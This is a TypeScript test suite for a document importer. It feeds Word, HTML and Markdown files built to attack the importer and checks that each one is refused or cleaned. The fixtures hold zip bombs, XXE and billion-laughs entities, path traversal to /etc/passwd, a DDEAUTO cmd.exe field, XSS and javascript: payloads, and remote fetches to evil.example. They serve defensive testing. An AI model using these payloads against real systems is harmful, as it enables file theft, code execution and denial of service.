import { readdirSync, readFileSync } from 'node:fs';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { ran } from '../commands/ran.ts';
import { parsed } from '../parse/parsed.ts';
import { folderWith } from '../read/disk.ts';
import { docx, docxParts, field, p, part, picture, r, tbl, tc, tr } from './docx-file.ts';
import { zipOf } from './zip-file.ts';

const words = p('Words.');
const parts = docxParts({ body: words });
const relation = (type: string, target: string) => ({ x: { type, target, outside: true as const } });
const document = (text: string) => zipOf({ ...parts, 'word/document.xml': text });
const nested = (levels: number, tag: string, inside = '') =>
  `${`<${tag}>`.repeat(levels)}${inside}${`</${tag}>`.repeat(levels)}`;
const whole = docx(words);
const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const hugePng = Buffer.from('89504e470d0a1a0a0000000d49484452000186a0000186a00802000000', 'hex');
const withPicture = (bytes: Uint8Array | string) =>
  docx({
    body: p(picture('i', 'Alt')) + words,
    relationships: { i: { type: 'image', target: 'media/a.png' } },
    parts: { 'word/media/a.png': bytes },
  });

/** Files that are refused: name, bytes, and how the sentence goes. */
const refused: readonly (readonly [string, string, Uint8Array | string, RegExp])[] = [
  [
    'a zip bomb in the text',
    'a.docx',
    document(`<w:document>${' '.repeat(30_000_000)}`),
    /unpacks to more than 200 times/,
  ],
  [
    'a zip bomb in the styles',
    'a.docx',
    zipOf({ ...parts, 'word/styles.xml': Buffer.alloc(60_000_000) }),
    /unpacks to more than 200 times/,
  ],
  [
    'a zip bomb as a picture',
    'a.docx',
    withPicture(Buffer.alloc(60_000_000)),
    /unpacks to more than 200 times/,
  ],
  [
    'too many parts',
    'a.docx',
    zipOf([
      ...Object.entries(parts).map(([name, bytes]) => ({ name, bytes })),
      ...Array.from({ length: 2_100 }, (_, index) => ({ name: `x/${index}`, bytes: '' })),
    ]),
    /at most 2000 are read/,
  ],
  [
    'a part that leads out',
    'a.docx',
    zipOf({ ...parts, '../../../etc/cron.d/x': 'x' }),
    /names lead out of it/,
  ],
  ['a part with a drive letter', 'a.docx', zipOf({ ...parts, 'C:\\x': 'x' }), /names lead out of it/],
  ['a part with a line feed in its name', 'a.docx', zipOf({ ...parts, 'a\nb': 'x' }), /names lead out of it/],
  [
    'two texts of one name',
    'a.docx',
    zipOf([
      ...Object.entries(parts).map(([name, bytes]) => ({ name, bytes })),
      { name: 'word/document.xml', bytes: 'x' },
    ]),
    /two parts called/,
  ],
  [
    'an external entity',
    'a.docx',
    document('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
    /declares a document type/,
  ],
  [
    'a billion laughs',
    'a.docx',
    document(`<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "${'&a;'.repeat(10)}">]><d>&b;</d>`),
    /declares a document type/,
  ],
  [
    'an external document type',
    'a.docx',
    document('<!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><d/>'),
    /declares a document type/,
  ],
  [
    'a parameter entity in the styles',
    'a.docx',
    zipOf({
      ...parts,
      'word/styles.xml': '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><d/>',
    }),
    /declares a document type/,
  ],
  ['an entity that nobody declared', 'a.docx', document('<d>&secret;</d>'), /not well-formed XML/],
  ['a character that XML does not have', 'a.docx', docx(p('a\ufffeb')), /not well-formed XML/],
  [
    'XML that is cut',
    'a.docx',
    document(String(parts['word/document.xml']).slice(0, -20)),
    /not well-formed XML/,
  ],
  ['XML with two roots', 'a.docx', document('<a/><b/>'), /not well-formed XML/],
  [
    'XML without namespaces declared',
    'a.docx',
    document('<w:document><w:body/></w:document>'),
    /not well-formed XML/,
  ],
  [
    'XML in bytes that are no UTF-8',
    'a.docx',
    zipOf({ ...parts, 'word/document.xml': Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe]) }),
    /characters cannot be read/,
  ],
  ['an attribute given twice', 'a.docx', document('<a x="1" x="2"/>'), /not well-formed XML/],
  ['elements nested without end', 'a.docx', docx(nested(5_000, 'w:sdt')), /nested deeper than 256 levels/],
  [
    'tables in tables without end',
    'a.docx',
    docx(`${'<w:tbl><w:tr><w:tc>'.repeat(200)}${words}${'</w:tc></w:tr></w:tbl>'.repeat(200)}`),
    /nested deeper than 256 levels/,
  ],
  [
    'elements by the million',
    'a.docx',
    docx(`<w:p>${'<w:r/>'.repeat(3_000_001)}</w:p>`),
    /more than (?:200 times|3000000 elements)/,
  ],
  [
    'a password',
    'a.docx',
    Buffer.concat([compound, Buffer.from('EncryptedPackage', 'utf16le')]),
    /locked with a password/,
  ],
  [
    'a zip password',
    'a.docx',
    zipOf([{ name: '[Content_Types].xml', bytes: 'x', locked: true }]),
    /locked with a password/,
  ],
  ['an old Word file', 'a.doc', compound, /file of an old Word/],
  ['an old Word file under a new name', 'a.docx', compound, /file of an old Word/],
  ['Rich Text', 'a.docx', '{\\rtf1 words}', /Rich Text file/],
  [
    'a spreadsheet',
    'a.docx',
    zipOf({
      ...parts,
      '[Content_Types].xml': String(parts['[Content_Types].xml']).replace(
        'wordprocessingml.document.main',
        'spreadsheetml.sheet.main',
      ),
    }),
    /This is a spreadsheet/,
  ],
  [
    'a presentation',
    'a.docx',
    zipOf({
      ...parts,
      '[Content_Types].xml': String(parts['[Content_Types].xml']).replace(
        'wordprocessingml.document.main',
        'presentationml.presentation.main',
      ),
    }),
    /This is a presentation/,
  ],
  [
    'an OpenDocument file',
    'a.docx',
    zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }),
    /OpenDocument/,
  ],
  ['an e-book', 'a.docx', zipOf({ mimetype: 'application/epub+zip' }), /e-book/],
  ['another zip file', 'a.docx', zipOf({ 'a.txt': 'x' }), /not a Word file/],
  ['an empty zip file', 'a.docx', zipOf({}), /not a Word file/],
  [
    'a Word file without its text',
    'a.docx',
    zipOf(Object.fromEntries(Object.entries(parts).filter(([name]) => name !== 'word/document.xml'))),
    /part with its text is missing/,
  ],
  ['a text that is another kind of part', 'a.docx', document('<x/>'), /part with its text is missing/],
  ['a Word file cut in half', 'a.docx', whole.subarray(0, whole.length / 2), /damaged or was cut short/],
  ['a Word file without its end', 'a.docx', whole.subarray(0, whole.length - 10), /damaged or was cut short/],
  ['bytes under the name of a Word file', 'a.docx', Buffer.from([1, 2, 3, 4]), /damaged or was cut short/],
  ['nothing at all', 'a.docx', '', /The file is empty/],
  [
    'a web page under the name of a Word file',
    'a.docx',
    '<!doctype html><p>x',
    /not a Word file, though its name says so/,
  ],
  [
    'a Word file under the name of a web page',
    'a.html',
    whole,
    /a Word file \(\.docx\), though its name says a web page/,
  ],
  [
    'a web page under the name of Markdown',
    'a.md',
    '<!DOCTYPE html><p>x',
    /a web page, though its name says a Markdown text/,
  ],
  ['a picture', 'a.html', '\x89PNG\r\n', /The kind of this file|not a web page|This is a picture/],
  ['a program', 'a.exe', 'MZ\x90\0', /kind of this file is not known/],
  ['an archive', 'a.docx', Buffer.from([0x1f, 0x8b, 8, 0]), /packed archive/],
  ['a file of 51 MB', 'a.md', Buffer.alloc(51_000_000, 'a'), /at most 50 MB are read/],
  ['a Markdown text of 6 MB', 'a.md', 'a'.repeat(6_000_000), /more than 5 MB/],
  ['a Markdown text with zeros', 'a.md', 'a\0b', /holds bytes that no text has/],
  ['a Markdown text in another encoding', 'a.md', Buffer.from([0x61, 0xe9, 0x62]), /not in UTF-8/],
  ['quotations without end', 'a.md', `${'>'.repeat(3_000)}x`, /nested too deeply/],
  [
    'lists without end',
    'a.md',
    Array.from({ length: 400 }, (_, index) => `${' '.repeat(index * 2)}- x`).join('\n'),
    /nested too deeply/,
  ],
  ['marks without end', 'a.md', '*a_ '.repeat(10_000), /too many signs such as/i],
  ['a page nested without end', 'a.html', nested(5_000, 'div', 'x'), /nested deeper than 256 levels/],
  [
    'a page of marks that never close',
    'a.html',
    `<p>${'<font color=a>'.repeat(2_000)}x`,
    /nested deeper than 256 levels/,
  ],
  [
    'a page that is bytes',
    'a.html',
    Buffer.from([0x3c, 0x70, 0x3e, 0, 0, 0]),
    /holds bytes that no text has/,
  ],
];

/** Files that are cleaned: name, bytes, and what must and must not come out. */
const cleaned: readonly (readonly [string, string, Uint8Array | string, RegExp, RegExp])[] = [
  [
    'macros',
    'a.docm',
    zipOf({
      ...docxParts({ body: words, mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
      'word/vbaProject.bin': 'Shell',
    }),
    /macros, left out/,
    /Shell/,
  ],
  [
    'a template from elsewhere',
    'a.docx',
    docx({ body: words, relationships: relation('attachedTemplate', 'http://evil.example/t.dotm') }),
    /Words/,
    /evil/,
  ],
  [
    'a remote picture',
    'a.docx',
    docx({
      body: p(picture('x', 'Alt').replace('r:embed', 'r:link')) + words,
      relationships: relation('image', 'http://evil.example/p.png'),
    }),
    /picture that lies elsewhere, left out; nothing is fetched/,
    /evil/,
  ],
  [
    'a huge picture',
    'a.docx',
    withPicture(hugePng),
    /picture, left out: it has 100000 × 100000 pixels/,
    /media\//,
  ],
  [
    'a picture that is a script',
    'a.docx',
    withPicture('<svg onload="alert(1)"/>'),
    /picture, left out: it is an SVG drawing/,
    /onload/,
  ],
  [
    'a picture that is a program',
    'a.docx',
    withPicture('MZ\x90\0'),
    /picture, left out: it is no picture/,
    /media\//,
  ],
  [
    'a picture whose part is missing',
    'a.docx',
    docx({
      body: p(picture('i', 'Alt')) + words,
      relationships: { i: { type: 'image', target: 'media/none.png' } },
    }),
    /picture, left out: its part is missing/,
    /!\[/,
  ],
  [
    'a picture by a path that leads out',
    'a.docx',
    docx({
      body: p(picture('i', 'Alt')) + words,
      relationships: { i: { type: 'image', target: '../../../../etc/passwd' } },
    }),
    /picture, left out: its part is missing/,
    /root:/,
  ],
  [
    'an embedded program',
    'a.docx',
    docx({
      body: p('<w:r><w:object><o:OLEObject ProgID="Package" r:id="o"/></w:object></w:r>') + words,
      parts: { 'word/embeddings/oleObject1.bin': 'MZ' },
    }),
    /embedded files of other programs, left out/,
    /MZ/,
  ],
  [
    'a script as a link',
    'a.docx',
    docx({
      body: p(`<w:hyperlink r:id="x">${r('press')}</w:hyperlink>`),
      relationships: relation('hyperlink', 'javascript:alert(1)'),
    }),
    /link that a report must not have/,
    /\]\(/,
  ],
  [
    'a script as a field',
    'a.docx',
    docx(p(field('HYPERLINK "javascript:alert(1)"', r('press')))),
    /link that a report must not have/,
    /\]\(/,
  ],
  [
    'a field that would load a file',
    'a.docx',
    docx(
      p(field('INCLUDETEXT "C:\\\\secret.txt"', r('shown'))) +
        p(field('DDEAUTO c:\\\\cmd.exe "/k calc"', r('also'))),
    ),
    /shown/,
    /calc|secret/,
  ],
  [
    'markup as text',
    'a.docx',
    docx(p('<script>alert(1)</script> [x](javascript:alert(1)) ![y](http://evil.example/p.png) :::note')),
    /script/,
    /^<script|(?<!\\)<script/m,
  ],
  [
    'front matter as text',
    'a.docx',
    docx(p('---') + p('title: Taken') + p('---')),
    /^---\naudience: adults\nlang: en-GB\n---\n\n\\---/,
    /undefined/,
  ],
  ['controls and halves of characters', 'a.docx', docx(p('a\u0085b\u009fc\u00add')), /a bcd/, /\u009f/],
  [
    'hidden words',
    'a.docx',
    docx(p(`${r('Seen')}${r(' Jane Doe', '<w:vanish/>')}`)),
    /hidden text, left out/,
    /Jane/,
  ],
  [
    'deleted words',
    'a.docx',
    docx(p(`${r('Seen')}<w:del w:author="Ann"><w:r><w:delText>Jane</w:delText></w:r></w:del>`)),
    /tracked deletion, carried out/,
    /Jane|Ann/,
  ],
  [
    'names in the properties',
    'a.docx',
    docx({
      body: words,
      parts: { 'docProps/core.xml': part('w:x', 'Jane Doe'), 'docProps/app.xml': 'Jane' },
    }),
    /Words/,
    /Jane/,
  ],
  [
    'a file that Word would take in',
    'a.docx',
    docx(`<w:altChunk r:id="x"/>${words}`),
    /file that Word would take in here, left out/,
    /altChunk/,
  ],
  [
    'a table of a million columns',
    'a.docx',
    docx(tbl(tr([tc('a', '<w:gridSpan w:val="99999999"/>'), 'b'])) + words),
    /Words/,
    /(?:\| <[^|]*){70}/,
  ],
  [
    'styles and lists that lead in circles',
    'a.docx',
    docx({
      body: p('Words.', '<w:pStyle w:val="A"/><w:numPr><w:ilvl w:val="99"/><w:numId w:val="1"/></w:numPr>'),
      styles:
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>',
      numbering:
        '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="S"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
    }),
    /Words/,
    /undefined|NaN/,
  ],
  [
    'a note that refers to itself',
    'a.docx',
    docx({
      body: p(`${r('x')}<w:r><w:footnoteReference w:id="1"/></w:r>`),
      footnotes: [p(`${r('note')}<w:r><w:footnoteReference w:id="1"/></w:r>`)],
    }),
    /note/,
    /undefined/,
  ],
  [
    'fields that never end',
    'a.docx',
    docx(
      p(
        `${r('Words.')}<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>TOC</w:instrText></w:r>`,
      ) + p('After'),
    ),
    /Words/,
    /TOC/,
  ],
  [
    'numbers that are none',
    'a.docx',
    docx({
      body: p(
        'Words.',
        '<w:numPr><w:ilvl w:val="x"/><w:numId w:val="1"/></w:numPr><w:outlineLvl w:val="NaN"/><w:ind w:left="1e999"/>',
      ),
      numbering:
        '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="-5"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%9%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
    }),
    /Words/,
    /NaN|undefined/,
  ],
  [
    'scripts and handlers of a page',
    'a.html',
    '<p onclick="x()">Words <script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:x">y</a><iframe srcdoc="z"></iframe><object data=q></object><style>@import "http://evil.example"</style>',
    /Words/,
    /alert|onclick|onerror|javascript|evil|srcdoc/,
  ],
  [
    'a page with remote parts',
    'a.html',
    '<link rel=stylesheet href="http://evil.example/s.css"><p>Words<img src="//evil.example/p.png" alt="Alt"><video src="http://evil.example/v"></video>',
    /nothing is fetched/,
    /!\[/,
  ],
  [
    'a page with paths that lead out',
    'a.html',
    '<p>Words<img src="../../../../../../etc/passwd"><img src="file:///etc/passwd"><img src="%2e%2e/x.png">',
    /Words/,
    /root:|!\[/,
  ],
  [
    'a page with a template and a hidden part',
    'a.html',
    '<p>Words<template><img src=x></template><p hidden>Jane<p style="display:none">Doe',
    /hidden text, left out/,
    /Jane|Doe/,
  ],
  [
    'a link with a name and password',
    'a.html',
    '<p><a href="https://gov.uk@evil.example/">words</a>',
    /link that a report must not have/,
    /\]\(/,
  ],
  [
    'mutation XSS',
    'a.html',
    '<p>Words<svg><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    /Words/,
    /onerror|<img/,
  ],
  [
    'scripts of a text',
    'a.md',
    'Words <script>alert(1)</script> <svg onload=alert(1)> [a](javascript:alert(1)) <javascript:alert(1)>\n\n<details open ontoggle=alert(1)>x</details>\n',
    /Words/,
    /onload|ontoggle|<script|[<(]javascript/,
  ],
  [
    'remote and foreign pictures of a text',
    'a.md',
    'Words ![a](http://evil.example/p.png) ![b](../../../../etc/passwd) ![c](/etc/passwd) ![d](file:///etc/passwd)\n',
    /nothing is fetched/,
    /!\[/,
  ],
  [
    'boxes that name files outside',
    'a.md',
    ':::figure{src="../../../etc/passwd" alt="x"}\nWords\n:::\n\n:::chart{data="/etc/passwd"}\nIt rose.\n:::\n',
    /Words/,
    /passwd"\}/,
  ],
  [
    'definitions that run',
    'a.md',
    'Words [a][x] ![b][y]\n\n[x]: javascript:alert(1)\n[y]: data:text/html,<script>\n',
    /Words/,
    /javascript:alert|data:text/,
  ],
  [
    'YAML that grows',
    'a.md',
    `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b]\n---\nWords\n`,
    /Words/,
    /\*b/,
  ],
  ['comments of a text', 'a.md', 'Words\n\n<!-- Jane Doe -->\n', /comment in the source, left out/, /Jane/],
];

async function imported(name: string, bytes: Uint8Array | string) {
  const root = await folderWith({
    'content/library.yaml': 'name: F\npublisher: C',
    [`in/${name}`]:
      typeof bytes === 'string'
        ? Buffer.from(bytes, name.endsWith('.html') && bytes.startsWith('\x89') ? 'latin1' : 'utf8')
        : bytes,
  });
  const result = await ran([
    'import',
    join(root, 'in', name),
    '--report',
    'park',
    '--edition',
    'full',
    '--content',
    join(root, 'content'),
  ]);
  return { root, ...result };
}

test('a word of a million letters takes no longer than one of a few', { timeout: 20_000 }, async () => {
  const { status, err } = await imported('a.html', `<p>${'a'.repeat(1_000_000)}`);
  expect({ status, err }).toEqual({ status: 0, err: '' });
});

test('front matter of unknown kinds is read without a word to the terminal', async () => {
  const warned: unknown[] = [];
  const listen = (warning: unknown) => void warned.push(warning);
  process.on('warning', listen);
  await imported('a.md', '---\naudience: !!js/function "function(){}"\n---\n\n# T\n');
  await new Promise(resolve => setTimeout(resolve, 20));
  process.off('warning', listen);
  expect(warned).toEqual([]);
});

test('what a build would refuse is refused, also where it comes from a page', async () => {
  const { root, status, err } = await imported('a.html', `<ul>${'<li>a'.repeat(60_000)}</ul>`);
  expect(err).toMatch(/What would be made of the file could not be built: too many lines stand in a row/);
  expect(status).toBe(1);
  expect(await readdir(join(root, 'content'))).toEqual(['library.yaml']);
});

test(`there are at least sixty of them`, () => {
  expect(refused.length + cleaned.length).toBeGreaterThanOrEqual(60);
});

describe('refused with one plain sentence, and nothing is left behind', () => {
  test.each(refused)('%s', async (_, name, bytes, sentence) => {
    const { root, status, out, err } = await imported(name, bytes);
    expect(err).toMatch(sentence);
    expect({ status, out, lines: err.trim().split('\n').length }).toEqual({ status: 1, out: '', lines: 1 });
    expect(await readdir(join(root, 'content'))).toEqual(['library.yaml']);
  });
});

describe('cleaned, with an account of it', () => {
  test.each(cleaned)('%s', async (_, name, bytes, must, mustNot) => {
    const { root, status, out, err } = await imported(name, bytes);
    expect({ status, err }).toEqual({ status: 0, err: '' });
    const text = await readFile(join(root, 'content/reports/park/full.md'), 'utf8');
    expect(text + out).toMatch(must);
    expect(text).not.toMatch(mustNot);
    // Nothing but the edition, its facts and pictures, and nothing unsafe once it is read.
    const files = (await readdir(join(root, 'content'), { recursive: true, withFileTypes: true }))
      .filter(entry => entry.isFile())
      .map(entry => entry.name);
    expect(
      files.every(file =>
        /^(?:library\.yaml|report\.yaml|full\.md|[0-9a-f]{20}\.(?:png|jpg|gif|webp))$/.test(file),
      ),
    ).toBe(true);
    const unsafe = parsed(text).findings.filter(({ rule }) =>
      ['unsafe-link', 'html-left-out', 'outside-picture'].includes(rule),
    );
    expect(unsafe).toEqual([]);
  });
});

test('nothing in the importer can reach a network or start a program', () => {
  const folder = join(import.meta.dirname, '../../../src/pipeline/import');
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(entry => entry.isFile());
  const found = files.filter(entry =>
    /from 'node:(?:https?|http2|net|tls|dgram|dns|child_process|vm)|\bfetch\(|\bnew WebSocket\b|\beval\(|\bnew Function\b/.test(
      readFileSync(join(entry.parentPath, entry.name), 'utf8'),
    ),
  );
  expect(files.length).toBeGreaterThan(30);
  expect(found.map(entry => entry.name)).toEqual([]);
  // PDF files are read in a thread of their own (pdf/open.ts); nothing else has one.
  const threads = files.filter(entry =>
    readFileSync(join(entry.parentPath, entry.name), 'utf8').includes("'node:worker_threads'"),
  );
  expect(threads.map(entry => entry.name).sort()).toEqual(['open.ts', 'thread.ts']);
});
